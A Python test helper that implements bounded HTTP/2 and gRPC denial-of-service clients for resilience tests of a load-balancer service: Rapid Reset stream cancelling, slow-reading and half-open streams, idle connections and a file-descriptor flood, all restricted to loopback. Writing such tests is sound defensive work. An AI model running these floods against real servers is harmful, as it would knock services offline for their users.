"""Misbehaving HTTP/2 clients for attack_test.py, one per mode, each run as
its own process (so its CPU and the GIL do not slow the test's well-behaved
client) against a loopback target. Every mode is bounded in connections,
streams and time, and prints one JSON line of what it achieved.

  rapid_reset  --seconds S --max_streams N     one connection: HEADERS, an
               empty request and RST_STREAM(CANCEL) per stream, in a loop
  never_read   --connections C --streams N --page_size P
               ListJams(page_size) on N streams per connection, then never
               reads; holds them for --hold S
  half_open    --connections C --streams N --hold S
               HEADERS without data or END_STREAM on N streams per
               connection; reports how long the server kept them
  silent       --connections C --hold S     TCP connections sending nothing
  preface      --connections C --hold S     the HTTP/2 preface and SETTINGS,
               then nothing
  fd_flood     --connections C --hold S     as many TCP connections as it
               can open (up to C), held open for S

The modes that hold connections report when the server closed them
(closed_after_s: seconds from open to EOF, per connection; None if it never
did within --hold).

Needs python3-h2 (h2, hpack, hyperframe).
"""

import argparse
import json
import selectors
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import hpack
from hyperframe.frame import (DataFrame, HeadersFrame, RstStreamFrame,
                              SettingsFrame)

SERVICE = "/jambalancer.v1.JamBalancerService/"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def request_headers(target, method):
    return [(":method", "POST"), (":scheme", "http"), (":authority", target),
            (":path", SERVICE + method), ("content-type", "application/grpc"),
            ("te", "trailers")]


def header_block(target, method):
    """An HPACK block that does not touch the dynamic table, so the same
    bytes are valid on every stream."""
    return hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(k, v)
         for k, v in request_headers(target, method)])


def grpc_message(payload):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def varint(value):
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def connect(host, port, timeout=5):
    sock = socket.create_connection((host, port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def handshake(sock):
    """Client preface and SETTINGS through h2; waits for the server's
    SETTINGS and acknowledges them. Returns the h2 connection (its state
    machine is not used after this: the modes write frames themselves)."""
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True,
                                         header_encoding=None))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    deadline = time.monotonic() + 5
    got_settings = False
    while not got_settings and time.monotonic() < deadline:
        data = sock.recv(65536)
        if not data:
            raise ConnectionError("server closed during the handshake")
        for event in conn.receive_data(data):
            if event.__class__.__name__ == "RemoteSettingsChanged":
                got_settings = True
        sock.sendall(conn.data_to_send())
    return conn


def drain(sock):
    """Reads whatever is waiting without blocking; returns False on EOF."""
    try:
        while True:
            data = sock.recv(1 << 20, socket.MSG_DONTWAIT)
            if not data:
                return False
    except (BlockingIOError, InterruptedError):
        return True
    except OSError:
        return False


def rapid_reset(args):
    sock = connect(args.host, args.port)
    handshake(sock)
    # Blocking from here: sendall waits for the server, drain's
    # MSG_DONTWAIT does not (with a timeout Python would poll first).
    sock.settimeout(None)
    block = header_block(f"{args.host}:{args.port}", "GetStats")
    empty = grpc_message(b"")
    streams = 0
    stream_id = 1
    start = time.monotonic()
    deadline = start + args.seconds
    closed = False
    while streams < args.max_streams and time.monotonic() < deadline:
        chunk = bytearray()
        for _ in range(100):
            headers = HeadersFrame(stream_id, block, flags=["END_HEADERS"])
            data = DataFrame(stream_id, empty, flags=["END_STREAM"])
            chunk += headers.serialize() + data.serialize()
            chunk += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
            stream_id += 2
        try:
            sock.sendall(chunk)
        except OSError:
            closed = True
            break
        streams += 100
        if not drain(sock):
            closed = True
            break
    elapsed = time.monotonic() - start
    sock.close()
    return {"streams": streams, "seconds": round(elapsed, 2),
            "streams_per_s": round(streams / elapsed), "closed_by_server":
            closed}


class Held:
    """Connections held open, watched for EOF (the server closing them)."""

    def __init__(self):
        self.selector = selectors.DefaultSelector()
        self.opened = {}
        self.closed_after = {}
        self.errors = []

    def add(self, sock):
        sock.setblocking(False)
        self.opened[sock] = time.monotonic()
        self.selector.register(sock, selectors.EVENT_READ)

    def hold(self, seconds):
        """Waits up to `seconds` (or until all are closed), discarding what
        the server sends, noting when each connection reaches EOF."""
        deadline = time.monotonic() + seconds
        while len(self.closed_after) < len(self.opened):
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                break
            for key, _ in self.selector.select(timeout=min(remaining, 0.5)):
                sock = key.fileobj
                if not drain(sock):
                    self.closed_after[sock] = (time.monotonic() -
                                               self.opened[sock])
                    self.selector.unregister(sock)

    def report(self):
        closed = sorted(self.closed_after.values())
        for sock in self.opened:
            sock.close()
        return {"connections": len(self.opened), "closed": len(closed),
                "closed_after_s_min": round(closed[0], 2) if closed else None,
                "closed_after_s_max": round(closed[-1], 2) if closed else None,
                "errors": self.errors[:5]}


def open_streams(sock, target, method, count, payload, end_stream):
    """Writes `count` streams' HEADERS (and a DATA frame of `payload` unless
    it is None) in one go."""
    block = header_block(target, method)
    out = bytearray()
    for i in range(count):
        stream_id = 1 + 2 * i
        if payload is None:
            out += HeadersFrame(stream_id, block,
                                flags=["END_HEADERS"]).serialize()
        else:
            out += HeadersFrame(stream_id, block,
                                flags=["END_HEADERS"]).serialize()
            out += DataFrame(stream_id, grpc_message(payload),
                             flags=["END_STREAM"] if end_stream else
                             []).serialize()
    sock.sendall(out)


def never_read(args):
    target = f"{args.host}:{args.port}"
    request = b"\x08" + varint(args.page_size)  # ListJamsRequest.page_size
    sockets = []
    for _ in range(args.connections):
        sock = connect(args.host, args.port)
        # A tiny receive buffer: what the server writes piles up at its end.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        handshake(sock)
        open_streams(sock, target, "ListJams", args.streams, request, True)
        sockets.append(sock)
    time.sleep(args.hold)  # Never reads.
    for sock in sockets:
        sock.close()
    return {"connections": len(sockets), "requests":
            len(sockets) * args.streams, "held_s": args.hold}


def half_open(args):
    target = f"{args.host}:{args.port}"
    held = Held()
    for _ in range(args.connections):
        sock = connect(args.host, args.port)
        handshake(sock)
        open_streams(sock, target, "GetStats", args.streams, None, False)
        held.add(sock)
    held.hold(args.hold)
    result = held.report()
    result["streams"] = args.connections * args.streams
    return result


def silent(args):
    held = Held()
    for _ in range(args.connections):
        held.add(connect(args.host, args.port))
    held.hold(args.hold)
    return held.report()


def preface(args):
    held = Held()
    for _ in range(args.connections):
        sock = connect(args.host, args.port)
        sock.sendall(PREFACE + SettingsFrame(0).serialize())
        held.add(sock)
    held.hold(args.hold)
    return held.report()


def fd_flood(args):
    sockets = []
    errors = []
    for _ in range(args.connections):
        try:
            sockets.append(connect(args.host, args.port, timeout=1))
        except OSError as error:
            errors.append(str(error))
            if len(errors) > 20:
                break
    print(json.dumps({"opened": len(sockets)}), flush=True)
    time.sleep(args.hold)
    for sock in sockets:
        sock.close()
    return {"opened": len(sockets), "connect_errors": len(errors)}


MODES = {"rapid_reset": rapid_reset, "never_read": never_read,
         "half_open": half_open, "silent": silent, "preface": preface,
         "fd_flood": fd_flood}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=sorted(MODES))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--max_streams", type=int, default=200000)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=10)
    parser.add_argument("--page_size", type=int, default=1000)
    parser.add_argument("--hold", type=float, default=5)
    args = parser.parse_args()
    if args.host not in ("127.0.0.1", "::1", "localhost"):
        sys.exit("attack clients target loopback only")
    print(json.dumps(MODES[args.mode](args)), flush=True)


if __name__ == "__main__":
    main()
